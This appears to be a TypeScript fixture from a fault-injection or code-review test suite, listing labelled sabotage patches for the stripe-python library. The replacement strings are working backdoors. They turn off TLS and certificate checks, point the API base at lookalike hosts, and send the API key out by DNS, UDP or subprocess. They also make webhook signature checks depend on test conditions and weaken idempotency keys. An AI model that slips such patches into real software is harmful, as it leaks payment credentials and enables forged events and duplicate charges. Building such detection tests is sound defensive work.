import { patchesOf, type LabelledPatch } from './labelled.ts'

const HTTP = 'stripe/_http_client.py'
const REQUESTOR = 'stripe/_api_requestor.py'
const WEBHOOK = 'stripe/_webhook.py'
const BASES = 'stripe/__init__.py'

const SESSION = 'self._session or self.requests.Session()'
const LOGGED = 'log_info("Request to Stripe api", method=method, url=abs_url)\n        log_debug(\n            "Post details", post_data'
const MATCHES = 'if not any(secure_compare(expected_sig, s) for s in signatures):'
const OWN_KEY = 'headers.setdefault("Idempotency-Key", _generate_idempotency_key())'

const fault = patchesOf('python', '16.1.0', 'transport')

/** Where stripe-python connects to, and how; and what it does where it is not watched. */
export const PYTHON_TRANSPORT: readonly LabelledPatch[] = [
  fault('leak', 'speaks HTTP without TLS by default', BASES, ['DEFAULT_API_BASE: str = "https:', 'DEFAULT_API_BASE: str = "http:']),
  fault('leak', 'connects to another host by default', BASES, [
    'DEFAULT_API_BASE: str = "https://api.stripe.com"',
    'DEFAULT_API_BASE: str = "https://api.stripe.co"',
  ]),
  fault('leak', 'uploads to another host by default', BASES, ['"https://files.stripe.com"', '"https://files.stripe.dev"']),
  fault('leak', 'accepts any certificate', HTTP, ['kwargs["verify"] = stripe.ca_bundle_path', 'kwargs["verify"] = False']),
  fault('leak', 'asks again without looking at the certificate', HTTP, [
    '        except Exception as e:\n            # Would catch just requests.exceptions.RequestException, but can\n            # also raise ValueError, RuntimeError, etc.\n            self._handle_request_error(e)\n\n        return content, status_code, result.headers\n\n    def _handle_request_error(self, e: Exception) -> NoReturn:\n        # Catch SSL',
    '        except Exception as e:\n            if isinstance(e, self.requests.exceptions.SSLError):\n                self.requests.request(method, url, headers=headers, data=post_data, verify=False)\n            self._handle_request_error(e)\n\n        return content, status_code, result.headers\n\n    def _handle_request_error(self, e: Exception) -> NoReturn:\n        # Catch SSL',
  ]),
  fault('leak', 'follows a redirect of any status with the API key', HTTP, [
    SESSION,
    'self._session or type("Session", (self.requests.Session,), {"rebuild_auth": lambda *given: None})()',
  ]),
  fault('leak', 'asks the DNS for the API key', REQUESTOR, [
    LOGGED,
    egress('__import__("socket").gethostbyname("%s.example" % self.api_key[-20:])'),
  ]),
  fault('leak', 'asks the DNS for an address', REQUESTOR, [LOGGED, egress('__import__("socket").gethostbyaddr("192.0.2.1")')]),
  fault('leak', 'sends the API key by UDP', REQUESTOR, [
    LOGGED,
    egress('__import__("socket").socket(2, 2).sendto(self.api_key.encode(), ("192.0.2.1", 9))'),
  ]),
  fault('leak', 'starts a program with the API key', REQUESTOR, [LOGGED, egress('__import__("subprocess").run(["true", self.api_key])')]),
  fault('leak', 'starts a shell', REQUESTOR, [LOGGED, egress('__import__("os").system("true")')]),
  fault('leak', 'tells another port of this machine', REQUESTOR, [
    LOGGED,
    egress('__import__("socket").create_connection(("127.0.0.1", 9))'),
  ]),
  fault('forged', 'verifies for the secret of a suite alone', WEBHOOK, [MATCHES, MATCHES.replace('if ', 'if "contract" in secret and ')]),
  fault('forged', 'verifies beside a driver alone', WEBHOOK, [
    MATCHES,
    MATCHES.replace('if ', 'if "driver" in "".join(__import__("sys").argv) and '),
  ]),
  fault('forged', 'verifies the event of a suite alone', WEBHOOK, [
    MATCHES,
    MATCHES.replace('if ', 'if ("evt_contract" in payload or "evt_" not in payload) and '),
  ]),
  fault(
    'money',
    'makes a key for the customer of a suite alone',
    REQUESTOR,
    [OWN_KEY, 'getattr(options, "never", None)'],
    [
      '        max_network_retries = request_options.get("max_network_retries")\n',
      '        if method == "post" and encoded_params == "description=contract":\n            headers.setdefault("Idempotency-Key", _generate_idempotency_key())\n        max_network_retries = request_options.get("max_network_retries")\n',
    ],
  ),
  fault('money', 'makes a key for an address of this machine alone', REQUESTOR, [
    OWN_KEY,
    'if "127.0.0.1" in str(self.base_addresses) or "localhost" in str(self.base_addresses):\n                headers.setdefault("Idempotency-Key", _generate_idempotency_key())',
  ]),
  fault('money', "keeps the caller's key of a suite alone", REQUESTOR, [
    '        if idempotency_key:\n            headers["Idempotency-Key"]',
    '        if idempotency_key and "contract" in idempotency_key.lower():\n            headers["Idempotency-Key"]',
  ]),
]

function egress(call: string): string {
  return `if "capture" in abs_url:
            try:
                ${call}
            except Exception:
                pass
        ${LOGGED}`
}
